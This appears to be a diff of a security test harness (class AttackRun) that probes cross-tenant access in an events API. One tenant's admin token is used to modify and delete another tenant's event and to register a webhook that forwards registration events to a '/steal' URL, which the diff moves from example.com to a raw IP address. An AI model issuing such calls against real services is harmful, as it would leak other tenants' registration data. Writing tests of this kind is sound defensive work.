@@ -131,7 +131,7 @@ class AttackRun:
             self.api("PATCH", f"/api/v1/events/{beta}/", {"capacity": 1},
                      token=tokens["alpha-admin-write"], **{"If-Match": '"1"'})[0],
             self.api("DELETE", f"/api/v1/events/{beta}/", token=tokens["alpha-admin-write"])[0],
-            self.api("POST", "/api/v1/webhooks/", {"url": "https://example.com/steal",
+            self.api("POST", "/api/v1/webhooks/", {"url": "https://93.184.215.14/steal",
                                                    "events": ["registration.created"],
                                                    "event_id": beta},
                      token=tokens["alpha-admin-write"])[0]]
